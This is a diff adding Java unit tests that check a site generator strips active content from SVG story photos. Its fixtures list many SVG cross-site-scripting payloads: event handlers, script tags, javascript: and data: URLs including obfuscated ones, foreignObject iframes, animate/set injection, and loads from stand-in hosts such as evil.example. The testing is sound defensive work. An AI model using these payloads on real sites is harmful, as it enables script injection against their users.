@@ -337,6 +337,100 @@ class PrivatePhotoMetadataTest {
             "<g id=\"layer1\"><rect fill=\"#0a5\" height=\"10\" width=\"20\"/></g>", "<use xlink:href=\"#layer1\"/>");
   }
 
+  /**
+   * An agency's map (an SVG story photo) with every form of active content an SVG can hold: a
+   * reader who opens the picture's address (it is in the JSON-LD and the feeds) would run its
+   * script on the site's own origin. It is published drawing the same shapes, with its text for
+   * screen readers, and nothing that runs, nor anything loaded from another site.
+   */
+  @Test
+  void anSvgStoryPhotoIsPublishedWithoutScriptsHandlersOrOutsideReferences() throws Exception {
+    String svg = """
+        <?xml-stylesheet type="text/xsl" href="https://tracker.example/turn-into-html.xsl"?>
+        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="1200" height="800"
+             onload="alert(document.domain)" ONMOUSEOVER="steal()">
+          <title>Troop positions</title>
+          <desc>Three columns north of the border</desc>
+          <style>@import url("https://fonts.example/evil.css"); .land { fill: url(#sea); } .x { background: url(https://tracker.example/px.gif) }</style>
+          <defs><linearGradient id="sea"><stop offset="0" stop-color="#05a"/></linearGradient></defs>
+          <script>alert(1)</script>
+          <script type="text/ecmascript" xlink:href="https://evil.example/x.js"/>
+          <a xlink:href="javascript:alert(2)"><rect id="north" width="100" height="100" class="land"/></a>
+          <a href=" JaVaScRiPt&#x3A;alert(3)"><circle r="5"/></a>
+          <a href="data:text/html,&lt;script&gt;alert(4)&lt;/script&gt;"><circle r="6"/></a>
+          <a href="https://example.org/report"><text x="5" y="20" onclick="alert(5)">Read the report</text></a>
+          <foreignObject width="100" height="50"><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(6)"/></div></foreignObject>
+          <html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(7)</html:script>
+          <set attributeName="href" to="javascript:alert(8)"/>
+          <a><animate attributeName="xlink:href" values="#north;javascript:alert(9)" dur="1s"/><circle r="7"/></a>
+          <use xlink:href="https://evil.example/sprites.svg#x"/>
+          <use href="#north" x="200"/>
+          <image href="https://tracker.example/pixel.png" width="1" height="1"/>
+          <image href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEwKTwvc2NyaXB0Pjwvc3ZnPg==" width="2" height="2"/>
+          <rect width="10" height="10" fill="url(https://tracker.example/fill.svg#p)" style="fill: url('#sea'); cursor: url(https://tracker.example/c.cur), auto"/>
+        </svg>
+        """;
+    TestSite site = TestSite.of(dir, Fixtures.CONFIG + Fixtures.SOURCES + ResponsivePhotosTest.story("map", "map.svg", ""))
+        .write("-- content/stories/map.svg --\n" + svg).build();
+
+    String published = Files.readString(site.out().resolve("2021/10/18/story-map/map.svg"));
+    assertThat(published.toLowerCase(java.util.Locale.ROOT)).doesNotContain("script").doesNotContain("alert").doesNotContain("onload")
+        .doesNotContain("onmouseover").doesNotContain("onclick").doesNotContain("steal").doesNotContain("foreignobject")
+        .doesNotContain("iframe").doesNotContain("example/").doesNotContain("@import").doesNotContain("data:")
+        .doesNotContain("xml-stylesheet");
+    // the drawing and its text stay
+    assertThat(published).contains("<title>Troop positions</title>", "<desc>Three columns north of the border</desc>",
+        "<rect class=\"land\" height=\"100\" id=\"north\" width=\"100\"/>", "<circle r=\"5\"/>", "<circle r=\"7\"/>",
+        "<a href=\"https://example.org/report\"><text x=\"5\" y=\"20\">Read the report</text></a>",
+        "<use href=\"#north\" x=\"200\"/>", ".land { fill: url(#sea); }", "<stop offset=\"0\" stop-color=\"#05a\"/>",
+        "style=\"fill: url('#sea');");
+  }
+
+  /**
+   * What looks like active content but draws the picture stays: text that speaks of scripts, a
+   * link to a web page, attributes that begin with "o", references inside the picture, a picture
+   * embedded as PNG data, one of the site's own pictures.
+   */
+  @Test
+  void anSvgsOwnLinksReferencesAndEmbeddedPicturesStay() throws Exception {
+    String svg = """
+        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="10">
+          <title>On the road: javascript: a guide</title>
+          <text x="1" y="5">onload the trucks at dawn</text>
+          <a href="/2021/10/18/story-map/"><rect width="5" height="5" opacity="0.5" overflow="visible" fill="url(#g)"/></a>
+          <a xlink:href="mailto:desk@example.org"><circle r="2"/></a>
+          <image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="2" height="2"/>
+          <image href="/images/base.png" width="2" height="2"/>
+          <use xlink:href="#g"/>
+          <animate attributeName="opacity" values="0;1" dur="2s"/>
+          <set attributeName="href" to="#g"/>
+        </svg>
+        """;
+    TestSite site = siteShowing("plain.svg").write("-- static/images/plain.svg --\n" + svg).build();
+    assertThat(site.file("images/plain.svg")).isEqualTo(svg);
+  }
+
+  /** A picture of static/ is a picture too: an agency's SVG put there loses its script as a story photo does. */
+  @Test
+  void anSvgOfStaticIsPublishedWithoutItsScript() throws Exception {
+    TestSite site = siteShowing("map.svg").write("""
+        -- static/images/map.svg --
+        <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><title>Map</title><script>alert(2)</script><rect width="5" height="5"/></svg>
+        """).build();
+    assertThat(site.file("images/map.svg")).doesNotContain("alert").contains("<title>Map</title>", "<rect height=\"5\" width=\"5\"/>");
+  }
+
+  /** An SVG whose root is an HTML element is no drawing: a browser would run the scripts in it. */
+  @Test
+  void anSvgWhoseRootIsNoSvgElementStopsTheBuild() throws Exception {
+    TestSite html = siteShowing("map.svg").write("""
+        -- static/images/map.svg --
+        <svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>
+        """);
+    assertThat(html.buildFails()).extracting(p -> p.format(dir)).singleElement().asString()
+        .startsWith("static/images/map.svg: error: this SVG cannot be published: its root element <svg> is HTML's, not SVG's");
+  }
+
   private static byte[] gzip(String text) throws java.io.IOException {
     ByteArrayOutputStream out = new ByteArrayOutputStream();
     try (java.util.zip.GZIPOutputStream gzip = new java.util.zip.GZIPOutputStream(out)) {
